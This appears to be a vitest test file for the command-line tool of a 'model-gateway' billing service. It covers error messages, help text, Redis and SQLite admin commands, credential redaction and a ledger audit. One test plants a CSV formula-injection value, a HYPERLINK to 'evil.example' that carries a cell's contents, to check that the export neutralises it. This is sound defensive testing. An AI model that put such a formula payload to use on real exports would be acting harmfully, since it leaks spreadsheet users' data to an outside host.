/**
 * The `model-gateway` command as a user runs it (a child process): mistakes on the command
 * line are one clear line and exit code 1, never a stack trace; a port in use says so; the
 * help documents every command and option; and the read / enable commands work against a
 * real Redis, where admin changes outlive the process.
 */
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import Database from 'better-sqlite3';
import { build } from 'esbuild';
import { Redis } from 'ioredis';
import { afterAll, describe, expect, it } from 'vitest';
import { createRedisStores } from '../../src/stores/redis/index.js';
import { startGatewayProcess, writeConfig } from '../helpers/processes.js';
import { freePort } from '../helpers/redis-servers.js';
import { REDIS_URL, deleteKeysWithPrefix, redisProblem } from '../../bench/redis-util.js';

const ROOT = join(import.meta.dirname, '..', '..');
const MEMORY_CONFIG = join(ROOT, 'examples', 'gateway.config.json');

// src/cli.ts bundled once (dependencies left to node_modules, as in the published build):
// each run then starts in a fraction of the time a TypeScript loader takes.
const BUNDLE = join(ROOT, '.tmp', `cli-test-${process.pid}-${randomBytes(3).toString('hex')}.mjs`);
await build({ entryPoints: [join(ROOT, 'src', 'cli.ts')], bundle: true, platform: 'node', format: 'esm', packages: 'external', outfile: BUNDLE, logLevel: 'warning' });
afterAll(() => rm(BUNDLE, { force: true }));

function cli(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [BUNDLE, ...args], { cwd: ROOT, timeout: 30_000 }, (err, stdout, stderr) => {
      resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

/** One line of explanation (plus the pointer to --help), no stack frames. */
function expectClearError(r: { code: number; stderr: string }, message: RegExp) {
  expect(r.code).toBe(1);
  expect(r.stderr).toMatch(message);
  expect(r.stderr).not.toMatch(/^\s+at /m);
  expect(r.stderr).not.toMatch(/RangeError|TypeError/);
}

describe('command-line mistakes', () => {
  it('refuses bad amounts with a message naming the flag, before touching the storage', async () => {
    const results = await Promise.all([
      cli('wallet', 'top-up', '--config', MEMORY_CONFIG, '--account', 'demo', '--usd', '-5'),
      cli('wallet', 'top-up', '--config', MEMORY_CONFIG, '--account', 'demo', '--usd', '0'),
      cli('accounts', 'create', '--config', MEMORY_CONFIG, '--id', 'x', '--wallet', 'ten'),
      cli('keys', 'create', '--config', MEMORY_CONFIG, '--account', 'demo', '--monthly-cap', '1.0000000001'),
      cli('keys', 'create', '--config', MEMORY_CONFIG, '--account', 'demo', '--monthly-cap=-1'),
    ]);
    expectClearError(results[0]!, /^--usd must be more than 0 USD.*got "-5"/);
    expectClearError(results[1]!, /^--usd must be more than 0 USD.*got "0"/);
    expectClearError(results[2]!, /^--wallet must be 0 or more USD.*got "ten"/);
    expectClearError(results[3]!, /^--monthly-cap must be .*more than 9 decimal places/);
    expectClearError(results[4]!, /^--monthly-cap must be 0 or more USD.*got "-1"/);
  });

  it('refuses a bad port, and says so when the port is in use', async () => {
    const busy: Server = createServer();
    await new Promise<void>((resolve) => busy.listen(0, '127.0.0.1', resolve));
    const taken = String((busy.address() as { port: number }).port);
    try {
      const [tooBig, word, inUse] = await Promise.all([
        cli('serve', '--config', MEMORY_CONFIG, '--port', '99999'),
        cli('serve', '--config', MEMORY_CONFIG, '--port', 'http'),
        cli('serve', '--config', MEMORY_CONFIG, '--port', taken, '--host', '127.0.0.1'),
      ]);
      expectClearError(tooBig, /^--port must be a whole number from 0 to 65535; got "99999"/);
      expectClearError(word, /^--port must be a whole number/);
      expectClearError(inUse, new RegExp(`^port ${taken} on 127\\.0\\.0\\.1 is already in use`));
    } finally {
      busy.close();
    }
  });

  it('an unknown flag names the nearest known one, and a bad config names the field and what it got', async () => {
    const unknown = await cli('serve', '--config', MEMORY_CONFIG, '--prot', '9000');
    expectClearError(unknown, /^unknown option --prot; did you mean --port\?\n/);
    expect(unknown.stderr).not.toMatch(/parseArgs|positional argument/);
    const config = writeConfig({
      upstreams: { sim: { simulate: true } },
      models: [{ id: 'm', upstream: 'sim', pricing: { prompt: 1.5e-7, completion: '0.000001' } }],
      limts: {},
    });
    const bad = await cli('serve', '--config', config, '--port', '0');
    expectClearError(bad, /^invalid gateway options:\n/);
    expect(bad.stderr).toContain('  models[0].pricing.prompt: expected a decimal string such as "0.000001", got the number 1.5e-7\n');
    expect(bad.stderr).toContain('  (root): "limts" is not a known key; did you mean "limits"?\n');
  });

  it('documents every command and option in --help; an unknown command prints it', async () => {
    const help = await cli('--help');
    expect(help.code).toBe(0);
    for (const s of ['audit --config FILE', 'accounts list', 'wallet show', 'keys enable', 'keys disable', '--port N', '--host H', '0 picks a free one']) expect(help.stdout).toContain(s);
    const unknown = await cli('wallets', 'show', '--config', MEMORY_CONFIG);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toMatch(/^unknown command: wallets show\n\nusage:/);
    // No command at all is a mistake too (a script that lost its arguments): usage on stderr, 1.
    const none = await cli();
    expect(none.code).toBe(1);
    expect(none.stdout).toBe('');
    expect(none.stderr).toMatch(/^no command given\n\nusage:/);
    expectClearError(await cli('wallet', 'show', '--config', MEMORY_CONFIG), /^missing --account/);
  });
});

const redisUp = (await redisProblem(REDIS_URL)) === null;

describe.runIf(redisUp || process.env.CI === 'true')('admin commands on Redis', () => {
  const prefix = `mgcli:${randomBytes(4).toString('hex')}:`;
  const config = writeConfig({
    upstreams: { sim: { simulate: true } },
    models: [{ id: 'sim/chat', upstream: 'sim', pricing: { prompt: '0.000001', completion: '0.000002' } }],
    storage: { driver: 'redis', url: REDIS_URL, keyPrefix: prefix },
  });
  const json = (r: { code: number; stdout: string; stderr: string }) => {
    expect(r.code, r.stderr).toBe(0);
    return JSON.parse(r.stdout) as unknown;
  };

  afterAll(async () => {
    if (!redisUp) return;
    const c = new Redis(REDIS_URL);
    await deleteKeysWithPrefix(c, prefix);
    c.disconnect();
  });

  it('accounts list, wallet show, keys disable and enable', async () => {
    expect(redisUp, `Redis at ${REDIS_URL} must answer under CI=true`).toBe(true);
    json(await cli('accounts', 'create', '--config', config, '--id', 'acme', '--wallet', '10'));
    json(await cli('accounts', 'create', '--config', config, '--id', 'beta'));
    json(await cli('wallet', 'top-up', '--config', config, '--account', 'acme', '--usd', '2.5'));
    expect(json(await cli('accounts', 'list', '--config', config))).toEqual([
      { id: 'acme', grants: [], budgets: [], createdAt: expect.any(Number), balanceUsd: '12.5', heldUsd: '0' },
      { id: 'beta', grants: [], budgets: [], createdAt: expect.any(Number), balanceUsd: '0', heldUsd: '0' },
    ]);
    expect(json(await cli('wallet', 'show', '--config', config, '--account', 'acme'))).toEqual({ account: 'acme', balanceUsd: '12.5', heldUsd: '0' });

    const created = json(await cli('keys', 'create', '--config', config, '--account', 'acme', '--label', 'ci')) as { id: string };
    const disabled = async () => ((json(await cli('keys', 'list', '--config', config, '--account', 'acme')) as { disabled: boolean }[])[0]!).disabled;
    json(await cli('keys', 'disable', '--config', config, '--id', created.id));
    expect(await disabled()).toBe(true);
    expect(json(await cli('keys', 'enable', '--config', config, '--id', created.id))).toEqual({ enabled: created.id });
    expect(await disabled()).toBe(false);

    // A credit reason with a formula comes out of the CSV export as text, its cost a number.
    const stores = createRedisStores({ url: REDIS_URL, keyPrefix: prefix });
    try {
      await stores.billing.credit({ accountId: 'acme', creditId: 'cr_formula', amount: 250_000_000n, reason: '=HYPERLINK("http://evil.example/?"&A1,"x")', at: Date.now() });
    } finally {
      await stores.close();
    }
    const csv = await cli('ledger', '--config', config, '--account', 'acme', '--format', 'csv');
    expect(csv.code, csv.stderr).toBe(0);
    const row = csv.stdout.split('\n').find((l) => l.includes('cr_formula'));
    expect(row).toMatch(/,-0\.25,.*,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)"$/);
    expect(csv.stdout).not.toMatch(/(^|,)=/m);

    const missing = await cli('keys', 'enable', '--config', config, '--id', 'key_nope');
    expectClearError(missing, /^No key "key_nope"\./);
    expectClearError(await cli('wallet', 'show', '--config', config, '--account', 'nobody'), /^No account "nobody"\./);
  }, 60_000);

});

describe('a store that does not answer at start', () => {
  it('names its address, never its password: an admin command stops (Redis, PostgreSQL); serve says so and serves 503', async () => {
    const [redisPort, pgPort] = [await freePort(), await freePort()];
    const redis = writeConfig({ storage: { driver: 'redis', url: `redis://:s3cret-redis-pw@127.0.0.1:${redisPort}` } });
    const pg = writeConfig({ storage: { driver: 'postgres', url: `postgres://gw:s3cret-pg-pw@127.0.0.1:${pgPort}/books` } });
    const [onRedis, onPg] = await Promise.all([cli('accounts', 'list', '--config', redis), cli('accounts', 'list', '--config', pg)]);
    expectClearError(onRedis, new RegExp(`^could not reach Redis at redis://127\\.0\\.0\\.1:${redisPort}: .*\\n$`));
    expectClearError(onPg, new RegExp(`^could not reach PostgreSQL at postgres://gw@127\\.0\\.0\\.1:${pgPort}/books: .*ECONNREFUSED.*\\n$`));

    // serve starts anyway (the stores reconnect by themselves) and says what it could not reach.
    const server = await startGatewayProcess(redis);
    try {
      const res = await fetch(`${server.baseURL}/models`, { headers: { authorization: `Bearer sk-mg-${'A'.repeat(44)}` } });
      expect(res.status).toBe(503);
      expect(server.output()).toMatch(new RegExp(`could not reach Redis at redis://127\\.0\\.0\\.1:${redisPort}: .*Serving anyway`));
      for (const text of [onRedis.stderr, onPg.stderr, server.output()]) expect(text).not.toMatch(/s3cret/);
    } finally {
      await server.kill();
    }
  }, 90_000);
});

describe('from a clone, without a build', () => {
  /** `npm run cli -- ARGS`, as the README says to run the CLI from a clone. */
  const npmRunCli = (...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> =>
    new Promise((resolve) => {
      execFile('npm', ['run', 'cli', '--', ...args], { cwd: ROOT, timeout: 60_000 }, (err, stdout, stderr) => {
        resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
      });
    });

  it('npm run cli -- runs the command from the sources', async () => {
    const help = await npmRunCli('--help');
    expect(help.code, help.stderr).toBe(0);
    expect(help.stdout).toContain('model-gateway serve --config FILE');
    const dir = mkdtempSync(join(tmpdir(), 'mg-cli-clone-'));
    try {
      const config = writeConfig({ storage: { driver: 'sqlite', path: join(dir, 'books.db') } });
      const created = await npmRunCli('accounts', 'create', '--config', config, '--id', 'acme', '--wallet', '3');
      expect(created.code, created.stderr).toBe(0);
      const listed = await npmRunCli('accounts', 'list', '--config', config);
      expect(listed.code, listed.stderr).toBe(0);
      expect(listed.stdout).toMatch(/"id": "acme"[\s\S]*"balanceUsd": "3"/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }, 120_000);
});

describe('a SQLite path that names no database yet', () => {
  it('a report (audit, ledger, batches) refuses, naming the absolute path and the folder it was taken from; another command says it creates one', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mg-cli-fresh-'));
    const path = join(dir, 'nowhere', 'books.db');
    const config = writeConfig({ storage: { driver: 'sqlite', path } });
    try {
      for (const args of [['audit'], ['ledger', '--account', 'acme'], ['batches', 'list', '--account', 'acme']]) {
        const refused = await cli(...args, '--config', config);
        expectClearError(refused, new RegExp(`no SQLite database at ${path.replaceAll('/', '\\/')}\\. A relative storage path is taken from the folder the command runs in \\(${ROOT.replaceAll('/', '\\/')}\\)`));
        expect(existsSync(path), args.join(' ')).toBe(false);
      }
      const created = await cli('accounts', 'create', '--config', config, '--id', 'acme', '--wallet', '1');
      expect(created.code, created.stderr).toBe(0);
      expect(created.stderr).toContain(`note: no SQLite database at ${path} yet: creating it (with the config's seeded accounts and keys).`);
      const again = await cli('audit', '--config', config);
      expect([again.code, again.stderr]).toEqual([0, '']);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('audit', () => {
  it('exits 0 on clean books and 1 on books changed behind the gateway, naming the account and the check', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mg-cli-audit-'));
    const path = join(dir, 'books.db');
    const config = writeConfig({ storage: { driver: 'sqlite', path } });
    try {
      expect((await cli('accounts', 'create', '--config', config, '--id', 'acme', '--wallet', '10')).code).toBe(0);
      expect((await cli('accounts', 'create', '--config', config, '--id', 'beta', '--wallet', '1')).code).toBe(0);
      expect((await cli('wallet', 'top-up', '--config', config, '--account', 'acme', '--usd', '2.5')).code).toBe(0);

      const clean = await cli('audit', '--config', config);
      expect(clean.code, clean.stderr).toBe(0);
      expect(clean.stdout).toBe('audit ok: 2 accounts, 3 ledger entries, no differences\n');

      const db = new Database(path);
      db.prepare("UPDATE wallets SET balance = 99000000000 WHERE account_id = 'acme'").run();
      db.close();
      const tampered = await cli('audit', '--config', config);
      expect(tampered.code).toBe(1);
      expect(tampered.stdout).toBe('audit FAILED: 2 accounts, 3 ledger entries, 1 difference\n  acme: balance: expected 12.5, actual 99\n');
      // One account at a time: the other's books are fine.
      expect((await cli('audit', '--config', config, '--account', 'beta')).code).toBe(0);
      expectClearError(await cli('audit', '--config', config, '--account', 'nobody'), /^No account "nobody"/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }, 60_000);
});
